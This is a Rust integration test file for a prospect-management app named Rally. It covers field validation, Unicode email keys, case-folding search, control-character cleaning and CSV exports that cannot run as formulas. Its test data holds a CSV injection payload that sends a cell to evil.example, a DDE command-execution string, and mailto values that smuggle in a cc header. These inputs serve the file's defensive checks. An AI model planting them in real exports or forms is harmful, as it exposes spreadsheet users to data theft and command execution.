//! Rules for the text Rally keeps and hands out: one set of field rules
//! for the form, quick add, edit and import; one email key; search with
//! Unicode case folding; CSV exports that a spreadsheet cannot run; links
//! built from data that cannot say more than the data.

use crate::helpers::{TestApp, hidden, spawn_app};

/// Uploads `csv` to the import and confirms it; the preview page.
async fn import(app: &TestApp, csv: &[u8]) -> String {
    let csrf = app.csrf_as(&app.client, "/prospects/import").await;
    let form = reqwest::multipart::Form::new().text("_csrf", csrf).part(
        "file",
        reqwest::multipart::Part::bytes(csv.to_vec())
            .file_name("prospects.csv")
            .mime_str("text/csv")
            .unwrap(),
    );
    let res = app
        .client
        .post(app.url("/prospects/import"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303, "{}", res.text().await.unwrap());
    let preview_url = res.headers()["location"].to_str().unwrap().to_string();
    let preview = app.page(&preview_url).await;
    let csrf = hidden(&preview, "_csrf");
    let res = app
        .post_as(
            &app.client,
            &format!("{preview_url}/confirm"),
            &[("_csrf", csrf.as_str())],
        )
        .await;
    assert_eq!(res.status(), 303);
    preview
}

/// The raw bytes of the signed-in export.
async fn export(app: &TestApp) -> Vec<u8> {
    app.get("/prospects/export.csv")
        .await
        .bytes()
        .await
        .unwrap()
        .to_vec()
}

async fn prospect_row(app: &TestApp, email: &str) -> (String, Option<String>, Option<String>) {
    rally::on_pool!(&app.pool, p => sqlx::query_as(
        "SELECT name, phone, company FROM prospects WHERE email = $1",
    )
    .bind(email)
    .fetch_one(p)
    .await
    .unwrap())
}

/// Item 10: formula cells are neutralised in both exports, phone numbers
/// are data, the file has a byte-order mark, and an export imports back as
/// it was.
#[tokio::test]
async fn exports_cannot_run_formulas_and_import_back_unchanged() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&C2,"Click")"#;
    let command = "+cmd|' /C calc'!A0";
    assert_eq!(
        app.submit(&[
            ("name", formula),
            ("email", "formula@example.com"),
            ("phone", "+1 555 0100"),
            ("company", command),
        ])
        .await,
        303
    );
    assert_eq!(
        app.submit(&[
            ("name", "@Zoë Élodie Иван"),
            ("email", "zoe@example.com"),
            ("phone", "-555-0100 22"),
            ("company", "-2+3"),
        ])
        .await,
        303
    );
    app.drain().await;
    app.sign_in().await;

    let web = export(&app).await;
    let mut cli = Vec::new();
    rally::prospects::export::prospects(&app.pool, "demo", &mut cli)
        .await
        .unwrap();
    for (which, bytes) in [("web", &web), ("cli", &cli)] {
        assert!(bytes.starts_with("\u{feff}".as_bytes()), "{which}: no BOM");
        let csv = String::from_utf8(bytes.to_vec()).unwrap();
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        for record in reader.records() {
            let record = record.unwrap();
            for (i, cell) in record.iter().enumerate() {
                let phone_ok = i == 3 && ["+1 555 0100", "-555-0100 22"].contains(&cell);
                assert!(
                    phone_ok || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{which}: cell {i} {cell:?} would run as a formula"
                );
            }
        }
        assert!(
            csv.contains(r#"'=HYPERLINK(""http://evil.example/?x=""&C2,""Click"")"#),
            "{csv}"
        );
        assert!(csv.contains("'+cmd|' /C calc'!A0"), "{csv}");
        assert!(csv.contains(",+1 555 0100,"), "{csv}");
        assert!(csv.contains("'@Zoë Élodie Иван"), "{csv}");
    }

    // The export, imported into an empty organization's list, gives back
    // exactly what was stored.
    let before = (
        prospect_row(&app, "formula@example.com").await,
        prospect_row(&app, "zoe@example.com").await,
    );
    rally::on_pool!(&app.pool, p => {
        for sql in ["DELETE FROM timeline_entries", "DELETE FROM prospects"] {
            sqlx::query(sql).execute(p).await.unwrap();
        }
    });
    let preview = import(&app, &web).await;
    assert!(
        preview.contains("<strong>2</strong> new prospects"),
        "{preview}"
    );
    let after = (
        prospect_row(&app, "formula@example.com").await,
        prospect_row(&app, "zoe@example.com").await,
    );
    assert_eq!(after, before);
    assert_eq!(before.0.0, formula);
    assert_eq!(before.0.1.as_deref(), Some("+1 555 0100"));
    assert_eq!(before.0.2.as_deref(), Some(command));
}

/// Item 11: an address is an addr-spec, and the link made from it names
/// that one recipient and nothing else.
#[tokio::test]
async fn email_links_carry_the_address_and_nothing_more() {
    let app = spawn_app().await;
    app.sign_in().await;
    let csrf = app.csrf_as(&app.client, "/prospects").await;
    for bad in [
        "Ana <ana@example.com>",
        "ana@example.com?cc=spy@evil.test",
        "\"ana lima\"@example.com",
        "ana@[127.0.0.1]",
        "ana@localhost",
        "ana@@example.com",
        "ana@exa mple.com",
    ] {
        let res = app
            .post_as(
                &app.client,
                "/prospects",
                &[
                    ("_csrf", csrf.as_str()),
                    ("name", "Bad Address"),
                    ("email", bad),
                ],
            )
            .await;
        assert_eq!(res.status(), 422, "{bad:?} accepted");
    }
    // Valid by the addr-spec, and dangerous in a link unless encoded.
    let tricky = "victim?cc=spy%40evil.test&body=hello#x@example.com";
    let res = app
        .post_as(
            &app.client,
            "/prospects",
            &[
                ("_csrf", csrf.as_str()),
                ("name", "Tricky Address"),
                ("email", tricky),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    let page = app.page(res.headers()["location"].to_str().unwrap()).await;
    assert!(
        page.contains(
            r#"href="mailto:victim%3Fcc%3Dspy%2540evil.test%26body%3Dhello%23x@example.com""#
        ),
        "{page}"
    );
    assert!(!page.contains("mailto:victim?"), "{page}");
    // A phone link holds the number's digits only.
    let res = app
        .post_as(
            &app.client,
            "/prospects",
            &[
                ("_csrf", csrf.as_str()),
                ("name", "Phone Link"),
                ("email", "phone-link@example.com"),
                ("phone", "+1 (555) 010-0100"),
            ],
        )
        .await;
    let page = app.page(res.headers()["location"].to_str().unwrap()).await;
    assert!(page.contains(r#"href="tel:+15550100100""#), "{page}");
}

/// Item 18: a 147-character name and a 150-character company from the
/// public form can be edited (the stage changed) and imported again; the
/// same name is accepted by quick add.
#[tokio::test]
async fn a_long_name_from_the_form_can_be_edited_and_imported_again() {
    let app = spawn_app().await;
    let name = format!("Maria {}Lopez", "Antonia ".repeat(17));
    assert_eq!(name.chars().count(), 147);
    let company = "C".repeat(150);
    assert_eq!(
        app.submit(&[
            ("name", &name),
            ("email", "long.name@example.com"),
            ("company", &company)
        ])
        .await,
        303
    );
    app.drain().await;
    app.sign_in().await;
    let id = app
        .count("SELECT id FROM prospects WHERE email = 'long.name@example.com'")
        .await;
    let edit = app.page(&format!("/prospects/{id}/edit")).await;
    let csrf = hidden(&edit, "_csrf");
    let res = app
        .post_as(
            &app.client,
            &format!("/prospects/{id}/edit"),
            &[
                ("_csrf", csrf.as_str()),
                ("name", &name),
                ("phone", ""),
                ("company", &company),
                ("stage", "contacted"),
                ("tags", ""),
            ],
        )
        .await;
    assert_eq!(res.status(), 303, "{}", res.text().await.unwrap());
    assert_eq!(
        app.count("SELECT COUNT(*) FROM prospects WHERE stage = 'contacted'")
            .await,
        1
    );

    // The shared case: the export of that prospect, imported as a new one.
    let csv = format!(
        "id,name,email,phone,company,source,created_at,submissions,stage,owner\n\
         10,{name},long.name.again@example.com,,,form:demo,2026-11-30 13:28 UTC,1,new,\n"
    );
    let preview = import(&app, csv.as_bytes()).await;
    assert!(
        preview.contains("<strong>1</strong> new prospect,"),
        "{preview}"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM prospects WHERE email = 'long.name.again@example.com'")
            .await,
        1
    );
    // Its own export, imported back, merges and leaves nobody out.
    let preview = import(&app, &export(&app).await).await;
    assert!(preview.contains("<strong>0</strong> left out"), "{preview}");
    assert_eq!(app.count("SELECT COUNT(*) FROM prospects").await, 2);

    let csrf = app.csrf_as(&app.client, "/prospects").await;
    let res = app
        .post_as(
            &app.client,
            "/prospects",
            &[
                ("_csrf", csrf.as_str()),
                ("name", &name),
                ("email", "quick.long@example.com"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    // Past the one limit, every way in refuses with the same message.
    let too_long = "n".repeat(201);
    let res = app
        .post_as(
            &app.client,
            "/prospects",
            &[
                ("_csrf", csrf.as_str()),
                ("name", &too_long),
                ("email", "too.long@example.com"),
            ],
        )
        .await;
    assert_eq!(res.status(), 422);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("200 characters or fewer")
    );
}

/// The prospects page searched for `q`.
async fn search(app: &TestApp, q: &str) -> String {
    let query = serde_urlencoded::to_string([("q", q)]).unwrap();
    app.page(&format!("/prospects?{query}")).await
}

/// Item 21: search folds case for every script, on both databases, and
/// one email key makes NFC and NFD, a Unicode domain and its punycode,
/// one person wherever they come in.
#[tokio::test]
async fn search_folds_case_and_one_key_per_address() {
    let app = spawn_app().await;
    for (name, email) in [
        ("Élodie Martin", "elodie@example.com"),
        ("Иван Петров", "ivan.petrov@example.com"),
        ("Jörg Straße", "joerg@example.com"),
    ] {
        assert_eq!(app.submit(&[("name", name), ("email", email)]).await, 303);
    }
    // The same people in other byte forms.
    for (name, email) in [
        ("José Nfc", "jos\u{e9}@example.com"),
        ("José Nfd", "jose\u{301}@example.com"),
        ("Jörg Unicode", "joerg2@münchen-test.de"),
        ("Jörg Punycode", "joerg2@xn--mnchen-test-thb.de"),
        ("Jörg Capitals", "JOERG2@MÜNCHEN-TEST.DE"),
    ] {
        assert_eq!(app.submit(&[("name", name), ("email", email)]).await, 303);
    }
    app.drain().await;
    assert_eq!(app.count("SELECT COUNT(*) FROM prospects").await, 5);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM prospects WHERE email = 'joerg2@xn--mnchen-test-thb.de'")
            .await,
        1
    );
    app.sign_in().await;
    for (query, expected) in [
        ("Élodie", "Élodie Martin"),
        ("ÉLODIE", "Élodie Martin"),
        ("élodie", "Élodie Martin"),
        ("E\u{301}lodie", "Élodie Martin"),
        ("Иван", "Иван Петров"),
        ("Петров", "Иван Петров"),
        ("иван", "Иван Петров"),
        ("ПЕТРОВ", "Иван Петров"),
        ("STRASSE", "Jörg Straße"),
        ("JÖRG", "Jörg Straße"),
        // (Which of a person's submissions came first, and so their name,
        // depends on the workers: these look for the one email.)
        ("JOSÉ@", "jos\u{e9}@example.com"),
        // Shown with its domain in Unicode (stored as punycode).
        ("MÜNCHEN", "joerg2@münchen-test.de"),
    ] {
        let page = search(&app, query).await;
        assert!(
            page.contains(expected),
            "{query:?} does not find {expected:?}"
        );
    }
    assert!(!search(&app, "Петрова").await.contains("Иван Петров"));

    // Quick add and import use the same key.
    let csrf = app.csrf_as(&app.client, "/prospects").await;
    let res = app
        .post_as(
            &app.client,
            "/prospects",
            &[
                ("_csrf", csrf.as_str()),
                ("name", "José Again"),
                ("email", "JOSE\u{301}@EXAMPLE.COM"),
            ],
        )
        .await;
    assert_eq!(res.status(), 422);
    assert!(res.text().await.unwrap().contains("already a prospect"));
    let preview = import(
        &app,
        "email,name\nJOS\u{c9}@example.com,José Import\n".as_bytes(),
    )
    .await;
    assert!(preview.contains("<strong>1</strong> merged"), "{preview}");
    assert_eq!(app.count("SELECT COUNT(*) FROM prospects").await, 5);
    // Sign-in finds an account by the same key.
    let res = app
        .client
        .post(app.url("/signin"))
        .form(&[
            ("email", " OWNER@Demo.Rally.Test "),
            ("password", app.demo.password.as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
}

/// Rows stored before the search column existed are found as before, and
/// start-up gives them their search text and email key.
#[tokio::test]
async fn rows_from_before_are_backfilled() {
    let app = spawn_app().await;
    let now = rally::platform::db::now_ms();
    rally::on_pool!(&app.pool, p => {
        sqlx::query(
            "INSERT INTO prospects (organization_id, email, name, source, created_at, updated_at)
             SELECT id, $2, 'Ольга Old', 'import', $1, $1 FROM organizations WHERE slug = 'demo'",
        )
        .bind(now)
        .bind("olga@xn--mnchen-test-thb.de")
        .execute(p)
        .await
        .unwrap();
        sqlx::query(
            "INSERT INTO prospects (organization_id, email, name, source, created_at, updated_at)
             SELECT id, $2, 'Nfd Old', 'import', $1, $1 FROM organizations WHERE slug = 'demo'",
        )
        .bind(now)
        .bind("rene\u{301}@example.com")
        .execute(p)
        .await
        .unwrap();
        sqlx::query("INSERT INTO users (email, name, password_hash, created_at) VALUES ($1, 'Old User', 'x', $2)")
            .bind("old.user@MÜNCHEN-TEST.DE")
            .bind(now)
            .execute(p)
            .await
            .unwrap();
    });
    app.sign_in().await;
    // Not yet folded: found as the database compares.
    assert!(app.page("/prospects?q=old").await.contains("Ольга Old"));
    let updated = rally::prospects::queries::backfill(&app.pool)
        .await
        .unwrap();
    assert_eq!(updated, 2);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM prospects WHERE search_text IS NULL")
            .await,
        0
    );
    assert!(
        app.page("/prospects?q=%D0%9E%D0%9B%D0%AC%D0%93%D0%90")
            .await
            .contains("Ольга Old")
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM prospects WHERE email = 'ren\u{e9}@example.com'")
            .await,
        1
    );
    // Accounts are looked up by the same key.
    assert_eq!(
        app.count("SELECT COUNT(*) FROM users WHERE email = 'old.user@xn--mnchen-test-thb.de'")
            .await,
        1
    );
}

/// One string from the database (the first column of the first row).
async fn stored(app: &TestApp, sql: &str) -> String {
    rally::on_pool!(&app.pool, p => sqlx::query_scalar::<_, String>(sqlx::AssertSqlSafe(sql.to_string()))
        .fetch_one(p)
        .await
        .unwrap())
}

/// Control characters a person cannot see (a NUL, a bell, Word's vertical
/// tab) are normalised, never refused and never stored: one-line fields
/// get a space for a line break, long text a `\n`, the rest is dropped.
/// The same on SQLite and Postgres (which cannot store a NUL at all).
#[tokio::test]
async fn invisible_characters_are_cleaned_and_nothing_typed_is_lost() {
    let app = spawn_app().await;
    app.sign_in().await;
    let csrf = app.csrf_as(&app.client, "/prospects").await;
    let res = app
        .post_as(
            &app.client,
            "/prospects",
            &[
                ("_csrf", csrf.as_str()),
                ("name", "Nul\0Bell\u{7}\u{b}Person\u{1b}"),
                ("email", "nul.bell@example.com\0"),
                ("phone", "+1 555\u{7} 0100"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303, "{}", res.text().await.unwrap());
    let id = app
        .count("SELECT id FROM prospects WHERE email = 'nul.bell@example.com'")
        .await;
    assert_eq!(
        stored(&app, &format!("SELECT name FROM prospects WHERE id = {id}")).await,
        "NulBell Person"
    );
    assert_eq!(
        stored(
            &app,
            &format!("SELECT phone FROM prospects WHERE id = {id}")
        )
        .await,
        "+1 555 0100"
    );
    // A note: line breaks kept (VT and CR LF as \n), NUL and BEL dropped.
    let res = app
        .post_as(
            &app.client,
            &format!("/prospects/{id}/notes"),
            &[
                ("_csrf", csrf.as_str()),
                ("note", "Called\0 back\u{7}\u{b}pasted\r\nfrom Word"),
            ],
        )
        .await;
    assert!(
        res.status().is_success() || res.status().is_redirection(),
        "{}",
        res.status()
    );
    let data = stored(
        &app,
        &format!("SELECT data FROM timeline_entries WHERE prospect_id = {id} AND kind = 'note'"),
    )
    .await;
    let data: serde_json::Value = serde_json::from_str(&data).unwrap();
    assert_eq!(data["note"], "Called back\npasted\nfrom Word");
    // Searching with a NUL drops it and searches.
    let res = app.get("/prospects?q=NulBell%00%20Person").await;
    assert_eq!(res.status(), 200);
    assert!(res.text().await.unwrap().contains("NulBell Person"));
    // A NUL in a parameter nobody types is still refused.
    assert_eq!(app.get("/prospects?page=1%00").await.status(), 422);

    // The public form: a vertical tab in "interest" is a line break.
    assert_eq!(
        app.submit(&[
            ("name", "Word\u{b}Paster\0"),
            ("email", "word.paster@example.com"),
            ("interest", "Line one\u{b}Line two\u{2028}three\u{7}"),
        ])
        .await,
        303
    );
    app.drain().await;
    let data = stored(
        &app,
        "SELECT t.data FROM timeline_entries t JOIN prospects p ON p.id = t.prospect_id
         WHERE p.email = 'word.paster@example.com' AND t.kind = 'form_submission'",
    )
    .await;
    let data: serde_json::Value = serde_json::from_str(&data).unwrap();
    assert_eq!(data["interest"], "Line one\nLine two\nthree");
    assert_eq!(data["name"], "Word Paster");
    let stats = jobs::SqlQueue::new(app.pool.queue_store(), Default::default())
        .stats()
        .await
        .unwrap();
    assert!(
        stats.iter().all(|q| q.dead == 0 && q.retrying == 0),
        "{stats:?}"
    );
}

/// An address with a Unicode domain is keyed by its IDNA ASCII form but
/// shown in Unicode on the list, its page, the export and the import
/// preview; the export imports back to the same prospect.
#[tokio::test]
async fn unicode_email_domains_are_shown_in_unicode() {
    let app = spawn_app().await;
    assert_eq!(
        app.submit(&[("name", "Иван Петров"), ("email", "Ivan@пример.рф")])
            .await,
        303
    );
    app.drain().await;
    app.sign_in().await;
    let key = "ivan@xn--e1afmkfd.xn--p1ai";
    let id = app
        .count(&format!("SELECT id FROM prospects WHERE email = '{key}'"))
        .await;
    let list = app.page("/prospects").await;
    assert!(list.contains("ivan@пример.рф"), "{list}");
    assert!(!list.contains("xn--"), "{list}");
    let page = app.page(&format!("/prospects/{id}")).await;
    assert!(page.contains(">ivan@пример.рф<"), "{page}");
    let csv = String::from_utf8(export(&app).await).unwrap();
    assert!(csv.contains(",ivan@пример.рф,"), "{csv}");
    assert!(!csv.contains("xn--"), "{csv}");
    // Imported back: the same key, merged rather than a second prospect.
    let preview = import(&app, csv.as_bytes()).await;
    assert!(preview.contains("<strong>1</strong> merged"), "{preview}");
    assert!(preview.contains("ivan@пример.рф"), "{preview}");
    assert_eq!(app.count("SELECT COUNT(*) FROM prospects").await, 1);
    rally::on_pool!(&app.pool, p => {
        for sql in ["DELETE FROM timeline_entries", "DELETE FROM prospects"] {
            sqlx::query(sql).execute(p).await.unwrap();
        }
    });
    let preview = import(&app, csv.as_bytes()).await;
    assert!(preview.contains("<strong>1</strong> new"), "{preview}");
    assert_eq!(
        app.count(&format!(
            "SELECT COUNT(*) FROM prospects WHERE email = '{key}'"
        ))
        .await,
        1
    );
}

/// Phones with an extension or a slash are kept as typed by the form, quick
/// add, edit and import alike; the `tel:` link carries the extension.
#[tokio::test]
async fn phones_with_extensions_and_slashes_are_kept_everywhere() {
    let app = spawn_app().await;
    assert_eq!(
        app.submit(&[
            ("name", "Form Ext"),
            ("email", "form.ext@example.com"),
            ("phone", "+1 555-010-1234 ext. 12"),
        ])
        .await,
        303
    );
    app.drain().await;
    app.sign_in().await;
    assert_eq!(
        prospect_row(&app, "form.ext@example.com")
            .await
            .1
            .as_deref(),
        Some("+1 555-010-1234 ext. 12")
    );
    let csrf = app.csrf_as(&app.client, "/prospects").await;
    let res = app
        .post_as(
            &app.client,
            "/prospects",
            &[
                ("_csrf", csrf.as_str()),
                ("name", "Quick Slash"),
                ("email", "quick.slash@example.com"),
                ("phone", "030/1234567"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    assert_eq!(
        prospect_row(&app, "quick.slash@example.com")
            .await
            .1
            .as_deref(),
        Some("030/1234567")
    );
    let id = app
        .count("SELECT id FROM prospects WHERE email = 'form.ext@example.com'")
        .await;
    let page = app.page(&format!("/prospects/{id}")).await;
    assert!(page.contains("tel:+15550101234;ext=12"), "{page}");
    let edit = app.page(&format!("/prospects/{id}/edit")).await;
    let csrf = hidden(&edit, "_csrf");
    let res = app
        .post_as(
            &app.client,
            &format!("/prospects/{id}/edit"),
            &[
                ("_csrf", csrf.as_str()),
                ("name", "Form Ext"),
                ("phone", "(555) 010-2000 x34"),
                ("company", ""),
                ("stage", "new"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303, "{}", res.text().await.unwrap());
    assert_eq!(
        prospect_row(&app, "form.ext@example.com")
            .await
            .1
            .as_deref(),
        Some("(555) 010-2000 x34")
    );
}

/// Search ignores accents ("jose" finds "José"), on both databases; rows
/// whose search text an older fold made are made again at start-up.
#[tokio::test]
async fn search_ignores_accents_and_old_rows_are_refolded() {
    let app = spawn_app().await;
    assert_eq!(
        app.submit(&[("name", "José Martín"), ("email", "jose.m@example.com")])
            .await,
        303
    );
    app.drain().await;
    app.sign_in().await;
    for query in ["jose", "JOSE", "martin", "José", "Jose\u{301}"] {
        let page = app
            .page(&format!(
                "/prospects?q={}",
                query.replace('\u{301}', "%CC%81")
            ))
            .await;
        assert!(page.contains("José Martín"), "{query:?} does not find José");
    }
    // A row whose search text the fold before accents made (version 1).
    rally::on_pool!(&app.pool, p => {
        sqlx::query(
            "INSERT INTO prospects (organization_id, email, name, source, created_at, updated_at, search_text)
             SELECT id, 'francois@example.com', 'François Old', 'import', 1, 1, 'françois old\nfrancois@example.com\n' FROM organizations WHERE slug = 'demo'",
        )
        .execute(p)
        .await
        .unwrap();
        sqlx::query("UPDATE search_fold_version SET version = 1").execute(p).await.unwrap();
    });
    assert!(
        !app.page("/prospects?q=francois%20old")
            .await
            .contains("François Old")
    );
    // What start-up runs after the migrations.
    let updated = rally::prospects::queries::backfill(&app.pool)
        .await
        .unwrap();
    assert_eq!(updated, 2, "every row made again");
    assert!(
        app.page("/prospects?q=francois%20old")
            .await
            .contains("François Old")
    );
    assert_eq!(
        app.count("SELECT MAX(version) FROM search_fold_version")
            .await,
        rally::platform::text::SEARCH_FOLD_VERSION
    );
    // Once: the next start-up has nothing to do.
    assert_eq!(
        rally::prospects::queries::backfill(&app.pool)
            .await
            .unwrap(),
        0
    );
}

/// A CSV whose cells hold control characters other than NUL (a vertical
/// tab some exports use for a line break, a bell) is imported with them
/// cleaned by the field rules, as a form's would be.
#[tokio::test]
async fn imported_cells_are_cleaned_like_typed_fields() {
    let app = spawn_app().await;
    app.sign_in().await;
    let preview = import(
        &app,
        "name,email,company,phone\nVera\u{b}Tab,vera@example.com,Bell\u{7} Co,+1 555\u{1b} 0100\n"
            .as_bytes(),
    )
    .await;
    assert!(preview.contains("<strong>1</strong> new"), "{preview}");
    assert_eq!(
        prospect_row(&app, "vera@example.com").await,
        (
            "Vera Tab".to_string(),
            Some("+1 555 0100".to_string()),
            Some("Bell Co".to_string())
        )
    );
}

/// An account with a Unicode domain sees it in Unicode on /account and on
/// the mailbox's "To" line (the confirmation message sent at sign-up).
#[tokio::test]
async fn an_accounts_unicode_domain_is_shown_in_unicode() {
    let app = spawn_app().await;
    let res = app
        .post_as(
            &app.client,
            "/signup",
            &[
                ("name", "Ivan Petrov"),
                ("email", "Ivan@пример.рф"),
                ("password", "a long enough password"),
                ("organization", "Primer"),
                ("kind", "business"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM users WHERE email = 'ivan@xn--e1afmkfd.xn--p1ai'")
            .await,
        1
    );
    let account = app.page("/account").await;
    assert!(account.contains("ivan@пример.рф"), "{account}");
    app.drain().await;
    let mailbox = app.page("/dev/mailbox").await;
    assert!(mailbox.contains("To ivan@пример.рф"), "{mailbox}");
    assert!(!mailbox.contains("To ivan@xn--"), "{mailbox}");
}
